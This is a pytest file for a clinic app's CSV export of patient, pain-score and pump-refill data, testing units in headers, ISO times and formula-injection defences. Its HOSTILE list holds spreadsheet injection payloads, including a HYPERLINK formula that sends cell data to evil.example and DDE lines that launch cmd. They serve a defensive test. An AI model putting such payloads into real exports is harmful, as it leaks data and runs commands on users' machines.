"""CSV export: one header row with units in the column names, ISO 8601 times, formula injection neutralised."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import date, datetime

import pytest
from tests.clinic.test_clinic_reports_record import (
    DrugFill,
    PainScore,
    sample_fills,
    sample_implant,
    sample_patient,
    sample_scores,
)

from thecal.apps.clinic.reports.csv_export import (
    FILL_COLUMNS_AFTER_DRUGS,
    PAIN_COLUMNS,
    PATIENT_COLUMNS,
    fills_csv,
    neutralised,
    pain_scores_csv,
    patients_csv,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_the_patients_csv_has_one_header_row_and_a_row_per_patient() -> None:
    text = patients_csv([sample_patient(), sample_patient(id=8, mrn="MRN-0043", given_name="Britt")])
    lines = text.splitlines()
    assert lines[0] == ",".join(PATIENT_COLUMNS)
    assert "weight_kg" in PATIENT_COLUMNS
    rows = _rows(text)
    assert [r["mrn"] for r in rows] == ["MRN-0042", "MRN-0043"]
    assert rows[0]["birth_date"] == "1958-06-02"
    assert float(rows[0]["weight_kg"]) == 64.5


def test_no_patients_gives_the_header_alone() -> None:
    assert patients_csv([]).splitlines() == [",".join(PATIENT_COLUMNS)]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_formula_in_any_text_field_is_written_as_text(hostile: str) -> None:
    patient = sample_patient(family_name=hostile, given_name=hostile, mrn=hostile, indication=hostile)
    row = _rows(patients_csv([patient]))[0]
    for column in ("family_name", "given_name", "mrn", "indication"):
        assert row[column] == "'" + hostile, column
    note = _rows(pain_scores_csv([replace(sample_scores()[0], note=hostile, source=hostile)]))[0]
    assert note["note"] == "'" + hostile
    assert note["source"] == "'" + hostile
    fill = replace(sample_fills()[0], drugs=((hostile, 10.0),))
    assert _rows(fills_csv([fill]))[0]["drug_1"] == "'" + hostile


def test_ordinary_text_is_left_alone() -> None:
    for text in ("Lindqvist", "O'Brien", "Smith-Jones", "a = b", "T10", ""):
        assert neutralised(text) == text


def test_commas_quotes_and_new_lines_in_a_note_come_back_whole() -> None:
    note = 'said "it burns", then:\nbetter after 2 days'
    row = _rows(pain_scores_csv([replace(sample_scores()[0], note=note)]))[0]
    assert row["note"] == note


def test_pain_scores_carry_iso_times_and_the_scale_in_the_column_name() -> None:
    scores = sample_scores()
    text = pain_scores_csv(scores)
    assert text.splitlines()[0] == ",".join(PAIN_COLUMNS)
    rows = _rows(text)
    assert len(rows) == len(scores)
    assert datetime.fromisoformat(rows[0]["at"]) == scores[0].at
    assert rows[0]["at"] == "2025-02-12T08:00:00+00:00"
    assert [int(r["score_0_to_10"]) for r in rows] == [s.score for s in scores]


def test_fills_have_units_in_their_column_names_and_a_column_set_per_drug() -> None:
    text = fills_csv(sample_fills(), [sample_implant()])
    header = text.splitlines()[0].split(",")
    assert header[:4] == ["fill_id", "implant_id", "pump_serial", "at"]
    assert header[4:10] == [
        "drug_1",
        "drug_1_mg_per_mL",
        "drug_1_amount_mg",
        "drug_2",
        "drug_2_mg_per_mL",
        "drug_2_amount_mg",
    ]
    assert header[10:] == list(FILL_COLUMNS_AFTER_DRUGS)
    first, admixture = _rows(text)
    assert (first["drug_1"], first["drug_2"], first["drug_2_mg_per_mL"]) == ("morphine", "", "")
    assert (admixture["drug_2"], float(admixture["drug_2_amount_mg"])) == ("bupivacaine", 300.0)
    assert first["pump_serial"] == "TV40-000317"
    assert date.fromisoformat(first["at"][:10]) == date(2025, 1, 10)


def test_the_refill_difference_stays_a_number_and_the_flag_follows_the_pump_model() -> None:
    rows = _rows(fills_csv(sample_fills(), [sample_implant()]))
    flagged = rows[1]
    assert float(flagged["difference_mL"]) == pytest.approx(-2.5)  # a number: not "'-2.5"
    assert (flagged["flag_threshold_mL"], flagged["flagged"], flagged["discrepancy_acknowledged"]) == (
        "2.0",
        "true",
        "true",
    )
    small_pump = _rows_for_pump("programmable-20")
    assert small_pump[0]["flag_threshold_mL"] == "1.0"


def _rows_for_pump(model: str) -> list[dict[str, str]]:
    return _rows(fills_csv(sample_fills(), [sample_implant(pump_model=model)]))


def test_a_fill_of_an_implant_not_given_gets_the_strictest_threshold() -> None:
    row = _rows(fills_csv(sample_fills()[:1]))[0]
    assert (row["pump_serial"], row["flag_threshold_mL"]) == ("", "1.0")


def test_ziconotide_amount_is_in_mg_as_its_column_says() -> None:
    fill = DrugFill(1, 3, datetime(2025, 1, 1, 9), (("ziconotide", 0.1),), 20.0, None, None, False, 2)
    row = _rows(fills_csv([fill]))[0]
    assert (row["drug_1_mg_per_mL"], row["drug_1_amount_mg"]) == ("0.1", "2.0")
    assert (row["expected_mL"], row["aspirated_mL"], row["difference_mL"], row["flagged"]) == ("", "", "", "false")


def test_the_csv_uses_crlf_line_ends_as_spreadsheets_expect() -> None:
    text = pain_scores_csv([PainScore(1, 7, datetime(2025, 1, 1), 3, "clinic", "")])
    assert text.endswith("\r\n")
    assert text.count("\r\n") == 2
